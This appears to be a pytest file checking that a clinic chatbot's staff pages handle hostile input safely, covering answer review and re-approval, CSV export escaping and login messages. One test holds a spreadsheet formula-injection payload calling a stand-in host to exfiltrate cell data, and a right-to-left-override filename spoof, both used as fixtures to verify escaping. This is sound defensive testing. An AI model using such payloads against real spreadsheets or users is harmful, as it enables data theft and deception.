"""The staff pages against hostile content and bypassed review (pages/review_desk.py, content.py, staff_login.py), in AppTest."""

from __future__ import annotations

import pytest
import yaml

from chatbot.answering.presentation import escape_markdown
from chatbot.reviewed.model import REVIEWED, WITHDRAWN, article_sentences, read_yaml
from chatbot.reviewed.store import ReviewStore
from chatbot.store.accounts import AccountStore
from chatbot.store.feedback import FeedbackStore
from tests.conftest import add_accounts
from tests.test_app import app_env, login, open_app, staff_env  # noqa: F401 - app_env and staff_env are fixtures


@pytest.fixture
def staff(staff_env):  # noqa: F811 - the fixture imported above
    """The app's environment with the shared staff password (an admin)."""
    return staff_env


OTHER_QUESTION = "What should I know before my first microneedling appointment?"


def import_other_answer(settings, tmp_path, *, reviewed_by: str) -> None:
    """An approved answer to a question that is not a common question, as `chatbot answers import` stores it."""
    data = yaml.safe_load((settings.corpus_dir / "reviewed_answers.yaml").read_text(encoding="utf-8"))
    entry = {**data["answers"][0], "question": OTHER_QUESTION, "also_asked": [], "reviewed_by": reviewed_by}
    path = tmp_path / "other.yaml"
    path.write_text(yaml.safe_dump({"answers": [entry]}), encoding="utf-8")
    ReviewStore(settings).import_entries(read_yaml(path, article_sentences(settings)), actor="cli:test")


def test_an_answer_to_a_question_that_is_not_common_is_on_the_desk_and_can_be_withdrawn(staff, tmp_path):
    import_other_answer(staff, tmp_path, reviewed_by="dr.lee")
    add_accounts(staff, "dr.lee")
    at = login(open_app("pages/staff.py"))
    assert any(s.value == "Other reviewed answers (1)" for s in at.subheader)
    assert f"**{escape_markdown(OTHER_QUESTION)}**" in [m.value for m in at.markdown]
    assert not any("Approved outside the desk" in w.value for w in at.warning), "dr.lee is a clinician account"
    [withdraw] = [b for b in at.button if b.key.startswith("withdraw-other-")]
    withdraw.click().run()
    assert not at.exception, at.exception
    assert ReviewStore(staff).get(OTHER_QUESTION).status == WITHDRAWN


def test_an_answer_approved_outside_the_desk_is_labelled_and_approved_again_in_one_click(staff, tmp_path):
    import_other_answer(staff, tmp_path, reviewed_by="Dr. Nobody")
    add_accounts(staff, "dr.lee")
    at = login(open_app("pages/staff.py"), password="tulip meadow river", name="dr.lee")
    assert any("Approved outside the desk" in w.value and "Dr. Nobody" in w.value.replace("\\", "") for w in at.warning)
    [again] = [b for b in at.button if b.key.startswith("reapprove-")]
    again.click().run()
    assert not at.exception, at.exception
    stored = ReviewStore(staff).get(OTHER_QUESTION)
    assert stored.status == REVIEWED and stored.reviewed_by == "dr.lee" and stored.revision == 2
    assert not any("Approved outside the desk" in w.value for w in at.run().warning)


def test_the_grid_and_its_csv_escape_formulas_and_show_bidi_controls(staff, engine):
    feedback = FeedbackStore(staff)
    formula = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for a discount")'
    feedback.log_answer(session_id="s", question=formula, history=[], answer=engine.ask("Is it painful?"))
    feedback.log_answer(session_id="s", question="my file is \u202egnp.exe", history=[], answer=engine.ask("Is it painful?"))
    at = login(open_app("pages/content.py"))
    questions = list(at.dataframe[0].value["question"])
    assert f"'{formula}" in questions and formula not in questions, "the grid's own Download as CSV exports what it shows"
    assert "my file is [U+202E]gnp.exe" in questions
    buttons = at.get("download_button")
    assert buttons and all(not b.proto.url for b in buttons), "no export file exists (or is served under /media/) before a click"


def test_a_login_message_never_renders_an_account_name_as_a_link(staff):
    AccountStore(staff.replace(staff_hash_memory_kib=1024, staff_hash_passes=1)).add(
        "www.evil.example", "tulip meadow river", role="editor")
    AccountStore(staff).disable("www.evil.example")
    at = login(open_app("pages/staff.py"), password="tulip meadow river", name="www.evil.example")
    [error] = at.error
    assert "disabled" in error.value and "www.evil.example" not in error.value, error.value
    assert escape_markdown("www.evil.example") in error.value


def test_a_shared_password_session_ends_when_an_admin_account_with_a_lesser_role_appears(staff):
    at = login(open_app("pages/accounts.py"))
    assert not at.error and any("Add an account" in m.value for m in at.markdown)
    AccountStore(staff.replace(staff_hash_memory_kib=1024, staff_hash_passes=1)).add("admin", "tulip meadow river", role="editor")
    at.run()
    assert any("now replaces the shared staff password" in w.value for w in at.warning)
    assert not any("Add an account" in m.value for m in at.markdown), "the session lost its admin rights"
